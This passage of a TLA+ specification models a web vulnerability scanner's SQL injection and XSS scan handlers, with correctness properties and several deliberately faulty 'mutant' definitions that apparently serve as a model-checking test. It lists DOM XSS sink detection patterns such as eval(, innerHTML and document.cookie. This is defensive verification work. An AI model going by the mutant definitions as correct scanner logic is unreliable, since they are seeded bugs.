             controlText == ResponseText(a.page)
             vuln == [parameter |-> param, severity |-> "high",
                      details |-> <<"Possible SQL injection success detected. The payload may have bypassed authentication or authorization.">>,
                      url |-> SearchParamsSet(NewURL(req[h].url), param, payload),
                      payload |-> payload]
         IN  /\ results' = [results EXCEPT ![h].vulnerabilities =
                              IF Resolved(a) /\ ~HasSuccessMarker(controlText)
                              THEN PushUnlessExists(@, vuln) ELSE @]
             /\ seen' = [seen EXCEPT ![h] =
                           IF a.ok /\ ~Includes(controlText, <<"Welcome">>)
                                   /\ ~Includes(controlText, <<"Dashboard">>)
                                   /\ ~Includes(controlText, <<"Logged in">>)
                           THEN @ \cup {[what |-> "bypass", param |-> param, payload |-> payload]}
                           ELSE @]
             /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
             /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
    /\ SqlAdvance(h)
    /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, response, scanId, scans, currentScanId,
                    activityLogs, currentActivityLogId, sent >>

----------------------------------------------------------------------------
(* POST /api/tools/xss-scan *)

\* routes.ts 990-1006
domSinkPatterns ==
    << <<"document", ".write(">>,
       <<"innerHTML">>,
       <<"outerHTML">>,
       <<"insertAdjacentHTML">>,
       <<"location">>,
       <<"location", ".href">>,
       <<"location", ".hash">>,
       <<"location", ".search">>,
       <<"eval(">>,
       <<"setTimeout(">>,
       <<"setInterval(">>,
       <<"document", ".cookie">>,
       <<"document", ".domain">>,
       <<"execScript(">>,
       <<"jQuery">> >>

\* mutant of HasUserSource: the source is looked for nowhere
HasUserSource_Unchecked(scriptContent) == TRUE

\* routes.ts 1011-1013
HasUserSource(scriptContent) ==
    \/ Includes(scriptContent, <<"location", ".hash">>)
    \/ Includes(scriptContent, <<"location", ".search">>)
    \/ Includes(scriptContent, <<"document", ".URL">>)

\* mutant of ReadsFragment: only the longer pattern is looked for
ReadsFragment_WindowOnly(responseText) ==
    Includes(responseText, <<"window.", "location", ".hash">>)

\* routes.ts 1049-1050
ReadsFragment(responseText) ==
    \/ Includes(responseText, <<"location", ".hash">>)
    \/ Includes(responseText, <<"window.", "location", ".hash">>)

IsNotBlank(p) == Len(Trim(p)) > 0

\* mutant of SelectPayloads: the custom lines are put in front of the catalog list
SelectPayloads_Merge(body) ==
    LET depth == IF body.scanDepth # "" THEN body.scanDepth ELSE "normal"
        custom == IF body.customPayloads # null
                  THEN SelectSeq(Split(body.customPayloads, "\n"), IsNotBlank)
                  ELSE << >>
    IN  IF depth \in DOMAIN defaultPayloads
        THEN [defined |-> TRUE, items |-> custom \o defaultPayloads[depth]]
        ELSE IF body.customPayloads # null
        THEN [defined |-> TRUE, items |-> custom]
        ELSE undefined

\* routes.ts 866-868
SelectPayloads(body) ==
    IF body.customPayloads # null
    THEN [defined |-> TRUE,
          items |-> SelectSeq(Split(body.customPayloads, "\n"), IsNotBlank)]
    ELSE LET depth == IF body.scanDepth # "" THEN body.scanDepth ELSE "normal"
         IN  IF depth \in DOMAIN defaultPayloads
             THEN [defined |-> TRUE, items |-> defaultPayloads[depth]]
             ELSE undefined

\* mutant of MapSet: an entry is added for every call
MapSet_Append(map, key, value) == Append(map, [key |-> key, value |-> value])

\* Map.prototype.set: a present key keeps its place and takes the new value
MapSet(map, key, value) ==
    IF \E i \in 1..Len(map) : map[i].key = key
    THEN [i \in 1..Len(map) |->
            IF map[i].key = key THEN [key |-> key, value |-> value] ELSE map[i]]
    ELSE Append(map, [key |-> key, value |-> value])

\* mutant of InjectionPoints: a url without keys gets the synthetic point as its entry
InjectionPoints_WithPageContent(map, query) ==
    IF query = << >>
    THEN << [key |-> <<"page-content">>, value |-> null] >>
    ELSE [i \in 1..Len(query) |-> query[i]]

\* routes.ts 872-877: the Map injectionPoints
RECURSIVE InjectionPoints(_, _)
InjectionPoints(map, query) ==
    IF query = << >> THEN map
    ELSE InjectionPoints(MapSet(map, Head(query).key, Head(query).value), Tail(query))

\* routes.ts 899-901
testReflected(body) == body.scanType \in {"reflected", "comprehensive"}
\* mutant of testDOM: the DOM stage is not gated
testDOM_Always(body) == TRUE

testDOM(body)       == body.scanType \in {"dom", "comprehensive"}
testStored(body)    == body.scanType \in {"stored", "comprehensive"}

\* routes.ts 940-948
ReflectedVuln(param, payload) ==
    [type |-> "Reflected",
     location |-> <<"URL parameter '">> \o param \o <<"'">>,
     severity |-> "high",
     context |-> <<"The parameter value is reflected without proper encoding or filtering">>,
     payload |-> payload]

\* routes.ts 1015-1023
SinkVuln(pattern) ==
    [type |-> "DOM-based",
     location |-> <<"JavaScript">>,
     severity |-> "medium",
     context |-> <<"Potential DOM XSS sink '">> \o pattern
                 \o <<"' found with user-controllable input source">>,
     payload |-> null]

\* routes.ts 1052-1060
FragmentVuln(payload) ==
    [type |-> "DOM-based",
     location |-> <<"URL fragment (#)">>,
     severity |-> "medium",
     context |-> <<"The application appears to process URL fragments with JavaScript">>,
     payload |-> payload]

\* routes.ts 1094-1104
FormVuln(form) ==
    [type |-> "Potentially Stored",
     location |-> <<"Form with action '">>
                  \o (IF form.action # null THEN form.action ELSE <<"unspecified">>)
                  \o <<"'">>,
     severity |-> "medium",
     context |-> <<"Form with text inputs detected - could be vulnerable to stored XSS if user input isn't properly sanitized before storage and display">>,
     payload |-> null]

\* routes.ts 1008-1028: the findings of one script, one per matching pattern
ScriptFindings(scriptContent) ==
    LET Matches(pattern) == Includes(scriptContent, pattern) /\ HasUserSource(scriptContent)
        hits == SelectSeq(domSinkPatterns, Matches)
    IN  [i \in 1..Len(hits) |-> SinkVuln(hits[i])]

\* routes.ts 985-1029: for (const script of scripts)
StaticDomFindings(page) ==
    LET scripts == QueryScripts(page)
    IN  Concat([i \in 1..Len(scripts) |-> ScriptFindings(scripts[i].content)])

\* mutant of StoredFindings: every form is flagged, whatever its fields
StoredFindings_AnyForm(page) ==
    LET forms == QueryForms(page)
    IN  [i \in 1..Len(forms) |-> FormVuln(forms[i])]

\* routes.ts 1088-1108: forms.forEach
StoredFindings(page) ==
    LET HasTextInput(form) == Len(QueryTextInputs(form)) > 0
        forms == SelectSeq(QueryForms(page), HasTextInput)
    IN  [i \in 1..Len(forms) |-> FormVuln(forms[i])]

\* mutant of SecurityScore: the medium buckets are tested before the high bucket
SecurityScore_MediumFirst(vulnerabilities) ==
    IF Len(vulnerabilities) = 0 THEN <<"A">>
    ELSE LET highCount == Cardinality({i \in 1..Len(vulnerabilities) :
                                         vulnerabilities[i].severity = "high"})
             mediumCount == Cardinality({i \in 1..Len(vulnerabilities) :
                                           vulnerabilities[i].severity = "medium"})
         IN  IF mediumCount > 2 THEN <<"D">>
             ELSE IF highCount > 0 THEN <<"F">>
             ELSE IF mediumCount > 0 THEN <<"C">>
             ELSE <<"B">>

IsHigh(v)   == v.severity = "high"
IsMedium(v) == v.severity = "medium"
\* routes.ts 1115-1130
SecurityScore(vulnerabilities) ==
    IF Len(vulnerabilities) = 0 THEN <<"A">>
    ELSE LET highCount == Len(SelectSeq(vulnerabilities, IsHigh))
             mediumCount == Len(SelectSeq(vulnerabilities, IsMedium))
         IN  IF highCount > 0 THEN <<"F">>
             ELSE IF mediumCount > 2 THEN <<"D">>
             ELSE IF mediumCount > 0 THEN <<"C">>
             ELSE <<"B">>

\* routes.ts 823-901: ensureAuthenticated and the handler up to the stages
XssScan(h, bodies) ==
    /\ pc[h] = "idle"
    /\ \E body \in bodies :
         /\ req' = [req EXCEPT ![h] = body]
         /\ IF ~ensureAuthenticated(body)
            THEN /\ Reply(h, 401, NoResults, 0)
                 /\ UNCHANGED << results, payloads, injectionPoints, pi, yi >>
            ELSE IF UrlMissing(body)
            THEN /\ Reply(h, 400, NoResults, 0)
                 /\ UNCHANGED << results, payloads, injectionPoints, pi, yi >>
            ELSE IF ~UrlParses(body.url)
            THEN /\ Reply(h, 500, NoResults, 0)       \* next(error)
                 /\ UNCHANGED << results, payloads, injectionPoints, pi, yi >>
            ELSE LET map == InjectionPoints(<< >>, NewURL(body.url).query)
                     keys == [i \in 1..Len(map) |-> map[i].key]
                 IN  /\ payloads' = [payloads EXCEPT ![h] = SelectPayloads(body)]
                     /\ injectionPoints' = [injectionPoints EXCEPT ![h] = map]
                     /\ results' = [results EXCEPT ![h] =
                          [vulnerabilities |-> << >>,
                           injectionPoints |-> IF Len(map) = 0
                                               THEN << <<"page-content">> >> ELSE keys,
                           securityScore |-> null,
                           error |-> null]]
                     /\ pi' = [pi EXCEPT ![h] = 1]
                     /\ yi' = [yi EXCEPT ![h] = 1]
                     /\ pc' = [pc EXCEPT ![h] = "xss_reflected"]
                     /\ UNCHANGED response
    /\ UNCHANGED << storageFailed, answered >>
    /\ UNCHANGED << targetParams, inflight, scanId, scans, currentScanId, activityLogs,
                    currentActivityLogId, signals, sent, seen >>

\* mutant of XssThrow: the catch grades the scan as well
XssThrow_Graded(h, message) ==
    /\ results' = [results EXCEPT ![h].error = message,
                                  ![h].securityScore = SecurityScore(results[h].vulnerabilities)]
    /\ pc' = [pc EXCEPT ![h] = "createScan"]

\* routes.ts 1131-1133: the catch of the guarded block
XssThrow(h, message) ==
    /\ results' = [results EXCEPT ![h].error = message]
    /\ pc' = [pc EXCEPT ![h] = "createScan"]

\* routes.ts 1114-1130: the score, the last statement of the guarded block
XssFinish(h, vulnerabilities) ==
    /\ results' = [results EXCEPT ![h].vulnerabilities = vulnerabilities,
                                  ![h].securityScore = SecurityScore(vulnerabilities)]
    /\ pc' = [pc EXCEPT ![h] = "createScan"]

\* routes.ts 922: the raw payload is reflected
IsReflected(responseText, payload) == Includes(responseText, payload)

\* mutant of IsConfirmed: the second response is not inspected
IsConfirmed_Unchecked(tokenResponseText, tokenizedPayload) == TRUE

\* routes.ts 939: the tokenized payload came back
IsConfirmed(tokenResponseText, tokenizedPayload) ==
    Includes(tokenResponseText, tokenizedPayload)

\* routes.ts 905-917: one turn of the reflected loops, up to the await of the request
XssReflected(h) ==
    /\ pc[h] = "xss_reflected"
    /\ IF ~testReflected(req[h]) \/ pi[h] > Len(injectionPoints[h])
       THEN /\ pc' = [pc EXCEPT ![h] = "xss_dom"]
            /\ UNCHANGED << results, pi, yi, inflight, sent >>
       ELSE IF ~payloads[h].defined
       THEN \* for (... of undefined) throws inside the try of line 903
            /\ XssThrow(h, <<"payloads is not iterable">>)
            /\ UNCHANGED << pi, yi, inflight, sent >>
       ELSE IF yi[h] > Len(payloads[h].items)
       THEN /\ pi' = [pi EXCEPT ![h] = @ + 1]
            /\ yi' = [yi EXCEPT ![h] = 1]
            /\ UNCHANGED << pc, results, inflight, sent >>
       ELSE LET param == injectionPoints[h][pi[h]].key
                payload == payloads[h].items[yi[h]]
                testUrl == SearchParamsSet(NewURL(req[h].url), param, payload)
            IN  /\ inflight' = [inflight EXCEPT ![h] =
                                  [kind |-> "reflected", url |-> testUrl, auth |-> FALSE]]
                /\ sent' = [sent EXCEPT ![h].reflected = @ + 1]
                /\ pc' = [pc EXCEPT ![h] = "xss_refl_wait"]
                /\ UNCHANGED << results, pi, yi >>
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, response, scanId, scans,
                    currentScanId, activityLogs, currentActivityLogId, signals, seen >>

\* routes.ts 913-935, 959-961: the first response, up to the await of the tokenized request
XssReflectedDone(h, budget) ==
    /\ pc[h] = "xss_refl_wait"
    /\ \E a \in Answers(h, budget) :
         LET param == injectionPoints[h][pi[h]].key
             payload == payloads[h].items[yi[h]]
             responseText == ResponseText(a.page)
         IN  /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
             /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
             /\ IF Resolved(a) /\ IsReflected(responseText, payload)
                THEN \E testToken \in Tokens :
                       LET tokenizedPayload == ReplaceFirst(payload, "XSS", testToken)
                       IN  /\ inflight' = [inflight EXCEPT ![h] =
                                 [kind |-> "token",
                                  url |-> SearchParamsSet(inflight[h].url, param, tokenizedPayload),
                                  auth |-> FALSE]]
                           /\ sent' = [sent EXCEPT ![h].token = @ + 1]
                           /\ pc' = [pc EXCEPT ![h] = "xss_token_wait"]
                           /\ UNCHANGED yi
                ELSE /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
                     /\ yi' = [yi EXCEPT ![h] = @ + 1]
                     /\ pc' = [pc EXCEPT ![h] = "xss_reflected"]
                     /\ UNCHANGED sent
             /\ seen' = [seen EXCEPT ![h] =
                           IF a.ok /\ Includes(ResponseText(a.page), payload)
                           THEN @ \cup {[what |-> "raw", param |-> param, payload |-> payload]}
                           ELSE @]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId >>

\* mutant of BreakPayloadLoop: the loop goes on with the next payload
BreakPayloadLoop_Continue(h) ==
    /\ yi' = [yi EXCEPT ![h] = @ + 1]
    /\ UNCHANGED pi

\* routes.ts 952-953: break, the loops go on with the next parameter
BreakPayloadLoop(h) ==
    /\ pi' = [pi EXCEPT ![h] = @ + 1]
    /\ yi' = [yi EXCEPT ![h] = 1]

\* routes.ts 931-958: the response to the tokenized request
XssTokenDone(h, budget) ==
    /\ pc[h] = "xss_token_wait"
    /\ \E a \in Answers(h, budget) :
         LET param == injectionPoints[h][pi[h]].key
             payload == payloads[h].items[yi[h]]
             tokenizedPayload == SearchParamsGet(inflight[h].url, param)
             tokenResponseText == ResponseText(a.page)
         IN  /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
             /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
             /\ seen' = [seen EXCEPT ![h] =
                           IF a.ok /\ Includes(ResponseText(a.page),
                                               SearchParamsGet(inflight[h].url, param))
                           THEN @ \cup {[what |-> "token", param |-> param, payload |-> payload]}
                           ELSE @]
             /\ IF Resolved(a) /\ IsConfirmed(tokenResponseText, tokenizedPayload)
                THEN /\ results' = [results EXCEPT ![h].vulnerabilities =
                                      Append(@, ReflectedVuln(param, payload))]
                     /\ BreakPayloadLoop(h)
                ELSE /\ yi' = [yi EXCEPT ![h] = @ + 1]
                     /\ UNCHANGED << results, pi >>
    /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
    /\ pc' = [pc EXCEPT ![h] = "xss_reflected"]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, response, scanId, scans,
                    currentScanId, activityLogs, currentActivityLogId, sent >>

\* routes.ts 967-974: the DOM stage, up to the await of the baseline request
XssDom(h) ==
    /\ pc[h] = "xss_dom"
    /\ IF testDOM(req[h])
       THEN /\ inflight' = [inflight EXCEPT ![h] =
                              [kind |-> "baseline", url |-> NewURL(req[h].url), auth |-> FALSE]]
            /\ sent' = [sent EXCEPT ![h].baseline = @ + 1]
            /\ pc' = [pc EXCEPT ![h] = "xss_base_wait"]
       ELSE /\ pc' = [pc EXCEPT ![h] = "xss_stored"]
            /\ UNCHANGED << inflight, sent >>
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId,
                    signals, seen >>

\* mutant of DomStageCatch: the error reaches the catch of the guarded block
DomStageCatch_Outer(h) == XssThrow(h, <<"Network Error">>)

\* routes.ts 1070-1072: the empty catch of the DOM stage; the stored stage is next
DomStageCatch(h) ==
    /\ pc' = [pc EXCEPT ![h] = "xss_stored"]
    /\ UNCHANGED results

\* routes.ts 970-1029, 1070-1072: the baseline response and the static sink detection
XssBaselineDone(h, budget) ==
    /\ pc[h] = "xss_base_wait"
    /\ \E a \in Answers(h, budget) :
         /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
         /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
         /\ seen' = [seen EXCEPT ![h] =
                       IF a.ok
                       THEN @ \cup {[what |-> "baseline", param |-> null, payload |-> null]}
                              \cup {[what |-> "script", param |-> null, payload |-> a.page[i].content] :
                                      i \in {j \in 1..Len(a.page) : a.page[j].tag = "script"}}
                       ELSE @]
         /\ IF Resolved(a)
            THEN /\ results' = [results EXCEPT ![h].vulnerabilities =
                                  @ \o StaticDomFindings(a.page)]
                 /\ yi' = [yi EXCEPT ![h] = 1]
                 /\ pc' = [pc EXCEPT ![h] = "xss_frag"]
            ELSE /\ DomStageCatch(h)
                 /\ UNCHANGED yi
    /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, pi, response, scanId,
                    scans, currentScanId, activityLogs, currentActivityLogId, sent >>

\* mutant of XssFragment: axios.get is called without await, the loop goes on
\* with the next payload while the request is outstanding
XssFragment_NoAwait(h) ==
    /\ pc[h] = "xss_frag"
    /\ IF ~payloads[h].defined \/ yi[h] > Len(payloads[h].items)
       THEN /\ pc' = [pc EXCEPT ![h] = "xss_stored"]
            /\ UNCHANGED << inflight, sent, yi >>
       ELSE /\ inflight' = [inflight EXCEPT ![h] =
                  [kind |-> "fragment",
                   url |-> [NewURL(req[h].url) EXCEPT !.hash = payloads[h].items[yi[h]]],
                   auth |-> FALSE]]
            /\ sent' = [sent EXCEPT ![h].fragment = @ + 1]
            /\ yi' = [yi EXCEPT ![h] = @ + 1]
            /\ UNCHANGED pc
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId,
                    signals, seen >>

\* routes.ts 1032-1043, 1070-1072: one turn of the fragment loop, up to the await
XssFragment(h) ==
    /\ pc[h] = "xss_frag"
    /\ IF ~payloads[h].defined \/ yi[h] > Len(payloads[h].items)
       THEN \* the loop ends, or for (... of undefined) throws into the catch of line 1070
            /\ pc' = [pc EXCEPT ![h] = "xss_stored"]
            /\ UNCHANGED << inflight, sent >>
       ELSE /\ inflight' = [inflight EXCEPT ![h] =
                  [kind |-> "fragment",
                   url |-> [NewURL(req[h].url) EXCEPT !.hash = payloads[h].items[yi[h]]],
                   auth |-> FALSE]]
            /\ sent' = [sent EXCEPT ![h].fragment = @ + 1]
            /\ pc' = [pc EXCEPT ![h] = "xss_frag_wait"]
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId,
                    signals, seen >>

\* routes.ts 1039-1067: the response to a fragment request
XssFragmentDone(h, budget) ==
    /\ pc[h] = "xss_frag_wait"
    /\ \E a \in Answers(h, budget) :
         /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
         /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
         /\ seen' = [seen EXCEPT ![h] =
                       IF a.ok /\ Includes(ResponseText(a.page), <<"location", ".hash">>)
                       THEN @ \cup {[what |-> "fragment", param |-> null,
                                     payload |-> payloads[h].items[yi[h]]]}
                       ELSE @]
         /\ IF Resolved(a) /\ ReadsFragment(ResponseText(a.page))
            THEN /\ results' = [results EXCEPT ![h].vulnerabilities =
                                  Append(@, FragmentVuln(payloads[h].items[yi[h]]))]
                 /\ pc' = [pc EXCEPT ![h] = "xss_stored"]       \* break
                 /\ UNCHANGED yi
            ELSE /\ yi' = [yi EXCEPT ![h] = @ + 1]
                 /\ pc' = [pc EXCEPT ![h] = "xss_frag"]
                 /\ UNCHANGED results
    /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, pi, response, scanId,
                    scans, currentScanId, activityLogs, currentActivityLogId, sent >>

\* routes.ts 1076-1082, 1114-1130: the stored stage, up to the await of its request
XssStored(h) ==
    /\ pc[h] = "xss_stored"
    /\ IF testStored(req[h])
       THEN /\ inflight' = [inflight EXCEPT ![h] =
                              [kind |-> "stored", url |-> NewURL(req[h].url), auth |-> FALSE]]
            /\ sent' = [sent EXCEPT ![h].stored = @ + 1]
            /\ pc' = [pc EXCEPT ![h] = "xss_stored_wait"]
            /\ UNCHANGED results
       ELSE /\ XssFinish(h, results[h].vulnerabilities)
            /\ UNCHANGED << inflight, sent >>
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, pi, yi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId,
                    signals, seen >>

\* routes.ts 1078-1130: the response of the stored stage, the form detection, the score
XssStoredDone(h, budget) ==
    /\ pc[h] = "xss_stored_wait"
    /\ \E a \in Answers(h, budget) :
         /\ signals' = [signals EXCEPT ![h] = Served(h, a)]
         /\ answered' = [answered EXCEPT ![h] = Answered(h, a)]
         /\ seen' = [seen EXCEPT ![h] =
                       IF a.ok
                       THEN @ \cup {[what |-> "textform", param |-> null, payload |-> a.page[i].action] :
                                      i \in {j \in 1..Len(a.page) :
                                               /\ a.page[j].tag = "form"
                                               /\ \E k \in 1..Len(a.page[j].inputs) :
                                                     a.page[j].inputs[k] \in {"text", "textarea"}}}
                       ELSE @]
         /\ XssFinish(h, IF Resolved(a)
                         THEN results[h].vulnerabilities \o StoredFindings(a.page)
                         ELSE results[h].vulnerabilities)
    /\ inflight' = [inflight EXCEPT ![h] = NoRequest]
    /\ UNCHANGED storageFailed
    /\ UNCHANGED << req, targetParams, payloads, injectionPoints, pi, yi, response,
                    scanId, scans, currentScanId, activityLogs, currentActivityLogId,
                    sent >>

----------------------------------------------------------------------------
(* Persistence and response, common to both handlers *)

ActionTag(body) ==
    IF body.endpoint = "sql-injection" THEN "SQL_INJECTION_SCAN" ELSE "XSS_SCAN"

\* mutant of InsertScan: the record is filed under the default user
InsertScan_Admin(h) ==
    [userId |-> 1, target |-> req[h].url, scanType |-> "vulnerability",
     status |-> "completed", findings |-> results[h]]

\* routes.ts 802-808 and 1136-1142: the argument of storage.createScan
InsertScan(h) ==
    [userId |-> req[h].user, target |-> req[h].url, scanType |-> "vulnerability",
     status |-> "completed", findings |-> results[h]]

\* routes.ts 801-808 and 1135-1142: await storage.createScan(...); a rejection
\* reaches the catch of the handler, which calls next(error)
CreateScan(h) ==
    /\ pc[h] = "createScan"
    /\ \/ /\ createScan(InsertScan(h))
          /\ scanId' = [scanId EXCEPT ![h] = currentScanId]
          /\ pc' = [pc EXCEPT ![h] = "createActivityLog"]
          /\ UNCHANGED << response, storageFailed >>
       \/ /\ Reply(h, 500, NoResults, 0)                     \* next(error)
          /\ storageFailed' = [storageFailed EXCEPT ![h] = TRUE]
          /\ UNCHANGED << scans, currentScanId, scanId >>
    /\ answered' = [answered EXCEPT ![h].failed = FALSE]
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, inflight, activityLogs,
                    currentActivityLogId, signals, sent, seen >>

\* mutant of CreateActivityLog: when the log entry fails the scan record is removed
CreateActivityLog_Rollback(h) ==
    /\ pc[h] = "createActivityLog"
    /\ \/ /\ createActivityLog([userId |-> req[h].user, action |-> ActionTag(req[h]),
                                details |-> req[h].url])
          /\ pc' = [pc EXCEPT ![h] = "respond"]
          /\ UNCHANGED << response, storageFailed, scans >>
       \/ /\ Reply(h, 500, NoResults, 0)
          /\ storageFailed' = [storageFailed EXCEPT ![h] = TRUE]
          /\ scans' = [k \in DOMAIN scans \ {scanId[h]} |-> scans[k]]
          /\ UNCHANGED << activityLogs, currentActivityLogId >>
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, inflight, scanId,
                    currentScanId, signals, sent, seen, answered >>

\* routes.ts 810-814 and 1144-1148: await storage.createActivityLog(...)
CreateActivityLog(h) ==
    /\ pc[h] = "createActivityLog"
    /\ \/ /\ createActivityLog([userId |-> req[h].user, action |-> ActionTag(req[h]),
                                details |-> req[h].url])
          /\ pc' = [pc EXCEPT ![h] = "respond"]
          /\ UNCHANGED << response, storageFailed >>
       \/ /\ Reply(h, 500, NoResults, 0)                     \* next(error)
          /\ storageFailed' = [storageFailed EXCEPT ![h] = TRUE]
          /\ UNCHANGED << activityLogs, currentActivityLogId >>
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, inflight, scanId, scans,
                    currentScanId, signals, sent, seen, answered >>

\* routes.ts 816 and 1150: res.json({ results, scanId: scan.id })
Respond(h) ==
    /\ pc[h] = "respond"
    /\ Reply(h, 200, results[h], scanId[h])
    /\ UNCHANGED << storageFailed, answered >>
    /\ UNCHANGED << req, results, targetParams, payloads, injectionPoints, pi, yi, inflight, scanId, scans,
                    currentScanId, activityLogs, currentActivityLogId, signals, sent, seen >>

\* a step of the invocation h, which serves one request out of the given
\* bodies, in a run whose targets serve at most budget signal pages
Step(h, sqlBodies, xssBodies, budget) ==
    \/ SqlInjection(h, sqlBodies)
    \/ SqlProbe(h)
    \/ SqlTestDone(h, budget)
    \/ SqlControlDone(h, budget)
    \/ XssScan(h, xssBodies)
    \/ XssReflected(h)
    \/ XssReflectedDone(h, budget)
    \/ XssTokenDone(h, budget)
    \/ XssDom(h)
    \/ XssBaselineDone(h, budget)
    \/ XssFragment(h)
    \/ XssFragmentDone(h, budget)
    \/ XssStored(h)
    \/ XssStoredDone(h, budget)
    \/ CreateScan(h)
    \/ CreateActivityLog(h)
    \/ Respond(h)

\* one request, of any body, served alone
Next == Step(1, SqlRequests, XssRequests, MaxSignals)

Spec == Init /\ [][Next]_vars

\* two requests, one per invocation, interleaved at every await: of the same
\* endpoint or not, of the same user or not
NextConc ==
    \/ Step(1, ConcSqlRequests, ConcXssRequests, MaxConcSignals)
    \/ Step(2, ConcSqlRequests2, ConcXssRequests2, MaxConcSignals)

SpecConc == Init /\ [][NextConc]_vars

\* the steps of an invocation after it has accepted its request: the event
\* loop resumes the handler when the promise it awaits has settled
Run(h, budget) ==
    \/ SqlProbe(h)
    \/ SqlTestDone(h, budget)
    \/ SqlControlDone(h, budget)
    \/ XssReflected(h)
    \/ XssReflectedDone(h, budget)
    \/ XssTokenDone(h, budget)
    \/ XssDom(h)
    \/ XssBaselineDone(h, budget)
    \/ XssFragment(h)
    \/ XssFragmentDone(h, budget)
    \/ XssStored(h)
    \/ XssStoredDone(h, budget)
    \/ CreateScan(h)
    \/ CreateActivityLog(h)
    \/ Respond(h)

\* one request served alone, every outbound request and every storage call
\* of which is answered or fails in the end
SpecLive == Init /\ [][Next]_vars /\ WF_vars(Run(1, MaxSignals))

----------------------------------------------------------------------------
(* Properties *)

Sql(h) == req[h].endpoint = "sql-injection"
Xss(h) == req[h].endpoint = "xss-scan"

\* the handler has left its probing code
Finished(h) == pc[h] \in {"createScan", "createActivityLog", "respond", "done"}

\* the request passed the gate and its url parsed
Scanned(h) == /\ Finished(h)
              /\ req[h].user # 0
              /\ req[h].url.present
              /\ req[h].url.absolute

TotalSent(h) == sent[h].test + sent[h].control + sent[h].reflected + sent[h].token
                + sent[h].baseline + sent[h].fragment + sent[h].stored

\* C1: in an XSS scan the vulnerabilities list never holds two findings with
\* the same location and the same payload (two null payloads being equal).
C1_NoDuplicateFindings ==
    \A h \in Handlers :
        Xss(h) =>
            LET V == results[h].vulnerabilities
            IN  \A i, j \in 1..Len(V) :
                    i < j => ~(V[i].location = V[j].location /\ V[i].payload = V[j].payload)

\* C2: an XSS scan that completes without a top-level error has the grade its
\* severity counts determine: A without findings, F with a high finding, D
\* with no high and more than two medium, C with no high and one or two
\* medium, B otherwise.
C2_ScoreBySeverityCounts ==
    \A h \in Handlers :
        (Xss(h) /\ Scanned(h) /\ results[h].error = null) =>
            LET V == results[h].vulnerabilities
                high == {i \in 1..Len(V) : V[i].severity = "high"}
                medium == {i \in 1..Len(V) : V[i].severity = "medium"}
            IN  results[h].securityScore =
                    CASE Len(V) = 0 -> <<"A">>
                      [] Len(V) > 0 /\ high # {} -> <<"F">>
                      [] Len(V) > 0 /\ high = {} /\ Cardinality(medium) > 2 -> <<"D">>
                      [] Len(V) > 0 /\ high = {} /\ Cardinality(medium) \in {1, 2} -> <<"C">>
                      [] OTHER -> <<"B">>

\* a completed scan graded F whose findings are one high and more than two medium
C2_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ results[h].error = null
        /\ results[h].securityScore = <<"F">>
        /\ LET V == results[h].vulnerabilities
           IN  Cardinality({i \in 1..Len(V) : V[i].severity = "medium"}) > 2

\* C3: a url that is present but not an absolute URL is fatal for the scan
\* only: no probe is issued, a scan record with status "completed" is created
\* whose findings carry a non-null error and no findings, and that results
\* object is returned to the caller.
C3_InvalidUrlRecorded ==
    \A h \in Handlers :
        (/\ pc[h] = "done"
         /\ req[h].user # 0
         /\ req[h].url.present
         /\ ~req[h].url.absolute
         /\ ~storageFailed[h]) =>
            /\ TotalSent(h) = 0
            /\ response[h].status = 200
            /\ response[h].results.error # null
            /\ response[h].results.vulnerabilities = << >>
            /\ \E i \in 1..Len(scans) :
                  /\ scans[i].status = "completed"
                  /\ scans[i].findings = response[h].results

\* C4: an authenticated request that carries a url is answered with HTTP 200
\* and a results object whatever happens during probing, unless a storage
\* operation fails.
C4_AlwaysOkUnlessStorageFails ==
    \A h \in Handlers :
        (/\ pc[h] = "done"
         /\ req[h].user # 0
         /\ req[h].url.present
         /\ ~storageFailed[h]) =>
            response[h].status = 200

\* the comma-separated paramNames string holds no non-empty name
NoNamesGiven(paramNames) ==
